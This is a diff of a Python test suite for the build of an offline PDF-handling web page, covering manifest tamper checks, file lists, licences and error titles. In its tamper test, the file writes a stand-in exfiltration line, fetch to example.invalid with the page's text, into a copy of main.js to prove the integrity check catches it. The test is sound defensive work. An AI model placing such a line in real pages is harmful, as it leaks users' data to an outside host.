@@ -14,6 +14,7 @@ import re
 import shutil
 import subprocess
 import sys
+import tempfile
 import threading
 import zipfile
 from pathlib import Path
@@ -71,13 +72,13 @@ def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_
     assert build.main(["--check", "--out", str(built)]) == 0
     copy = tmp_path / "dist"
     shutil.copytree(built, copy)
-    original = (copy / "app.js").read_bytes()
-    (copy / "app.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
+    original = (copy / "app" / "main.js").read_bytes()
+    (copy / "app" / "main.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
     (copy / "pyodide" / "python_stdlib.zip").unlink()
     (copy / "extra.js").write_text("1")
     assert build.main(["--check", "--out", str(copy)]) == 1
     err = capsys.readouterr().err
-    assert "changed: app.js" in err
+    assert "changed: app/main.js" in err
     assert f"expected sha256 {hashlib.sha256(original).hexdigest()}" in err
     assert "missing: pyodide/python_stdlib.zip" in err
     assert "not in the manifest: extra.js" in err
@@ -85,8 +86,8 @@ def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_
 
 def test_the_folder_holds_only_what_the_page_needs(built):
     files = {p.relative_to(built).as_posix() for p in built.rglob("*") if p.is_file()}
-    for needed in ("index.html", "app.js", "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json",
-                   "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
+    for needed in ("index.html", "app/main.js", "app/files.js", "app/review.js", "app/drawing.js", build.ERROR_TITLES,
+                   "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json", "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
                    "pyodide/python_stdlib.zip", "pyodide/pyodide-lock.json", "vendor/aes.mjs", "licences.txt",
                    "pdfjs/pdf.min.mjs", "pdfjs/pdf.worker.min.mjs", "pdfjs/wasm/openjpeg.wasm",
                    "pdfjs/cmaps/UniJIS-UCS2-H.bcmap", "bridge.js", "pages.js"):
@@ -170,7 +171,7 @@ def test_every_third_party_file_served_is_covered_by_a_licence_entry(built):
     # What this repository makes: the page's own files, our two wheels (py/), and what the build writes.
     own = {p.relative_to(REPO / "site").as_posix() for p in (REPO / "site").rglob("*") if p.is_file()}
     own |= {f"pyodide/{lock[key]['file_name']}" for key in ("pagefurniture", "cryptography")}
-    own |= {"manifest.json", "licences.txt", "pyodide/pyodide-lock.json"}
+    own |= {"manifest.json", "licences.txt", "pyodide/pyodide-lock.json", build.ERROR_TITLES}
     text = (built / "licences.txt").read_text()
     entries = text.split("=" * 78 + "\n")[1:]
     heads, bodies = entries[0::2], entries[1::2]
@@ -193,6 +194,65 @@ def test_every_third_party_file_served_is_covered_by_a_licence_entry(built):
     assert "Mozilla Public License Version 2.0" in text and text.count("Permission is hereby granted") == 5
     assert "Apache License" in text and "Adobe Systems Incorporated" in text
     assert 'href="licences.txt"' in (built / "index.html").read_text()
+
+
+def _page_titles(built: Path) -> dict:
+    """The error titles of the built page, as its module app/errors.js exports them (run under node)."""
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("node is not installed: the page's modules cannot be run outside the browser")
+    script = ("const m = await import(process.argv[1]);"
+              "console.log(JSON.stringify({titles: m.TITLES, page: m.PAGE_TITLES, bug: m.BUG_KIND}));")
+    with tempfile.TemporaryDirectory() as tmp:
+        shutil.copytree(built / "app", Path(tmp) / "app")
+        (Path(tmp) / "package.json").write_text('{"type": "module"}')  # node reads .js as what they are: modules
+        done = subprocess.run([node, "--input-type=module", "-e", script, str(Path(tmp) / "app" / "errors.js")],
+                              capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    return json.loads(done.stdout)
+
+
+def test_the_page_shows_the_title_errors_py_gives_each_kind(built):
+    """Every kind of error of the package (its classes anywhere, once imported) has its title in the page."""
+    import pagefurniture  # noqa: F401  (the whole package, so that every subclass of its errors is seen)
+    from pagefurniture import errors
+
+    package = {errors.BUG_KIND: errors.BUG_TITLE}
+    todo = errors.PageFurnitureError.__subclasses__()
+    while todo:
+        kind = todo.pop()
+        todo += kind.__subclasses__()
+        if "kind" in kind.__dict__:  # one that names no kind of its own is its parent's kind
+            package[kind.kind] = kind.__dict__["title"]  # its own title, not its parent's
+    assert len(package) >= 10
+    shown = _page_titles(built)
+    assert shown["bug"] == errors.BUG_KIND
+    assert not set(shown["page"]) & set(package), "a kind of errors.py has a second title in the page"
+    assert shown["titles"] == {**package, **shown["page"]}
+
+
+def test_every_kind_of_error_the_page_reports_has_a_title(built):
+    """Each error the page's scripts make ({kind: "...", message}) or name by its kind is shown with a title."""
+    titles = _page_titles(built)["titles"]
+    used = set()
+    for path in (REPO / "site").rglob("*.js"):
+        text = path.read_text()
+        used |= set(re.findall(r'kind: "([a-z-]+)",\s*message', text)) | set(re.findall(r'TITLES\["([a-z-]+)"\]', text))
+    assert {"no-file", "unreadable", "boot", "cancelled", "limit", "wrong-password"} <= used
+    assert sorted(used - set(titles)) == []
+
+
+def test_a_kind_of_error_without_a_title_of_its_own_fails_the_build(built, tmp_path):
+    source = tmp_path / "errors.py"
+    text = build.ERRORS.read_text()
+    source.write_text(text)
+    assert build.error_titles(source) == (built / build.ERROR_TITLES).read_bytes()
+    source.write_text(text + '\n\nclass Odd(DamagedPDF):\n    kind = "odd"\n')
+    with pytest.raises(build.BuildError, match="Odd needs a title of its own"):
+        build.error_titles(source)
+    source.write_text(text + '\n\nclass Again(DamagedPDF):\n    kind = "damaged"\n    title = "Again"\n')
+    with pytest.raises(build.BuildError, match="Again has the kind 'damaged' of another error"):
+        build.error_titles(source)
 
 
 def test_the_precompile_scripts_are_code_and_key_the_bytecode_cache(tmp_path, monkeypatch):
@@ -224,7 +284,9 @@ def test_the_build_is_reproducible(built, cache, tmp_path):
 
 
 def test_our_files_name_no_other_origin(built):
-    for name in ("index.html", "app.js", "worker.js", "sw.js", "style.css"):
+    ours = {p.relative_to(REPO / "site").as_posix() for p in (REPO / "site").rglob("*") if p.suffix in (".html", ".js", ".css")}
+    assert {"index.html", "app/main.js", "worker.js", "sw.js", "style.css"} <= ours
+    for name in sorted(ours | {build.ERROR_TITLES}):
         text = (built / name).read_text()
         assert not re.search(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}/", text), name
 
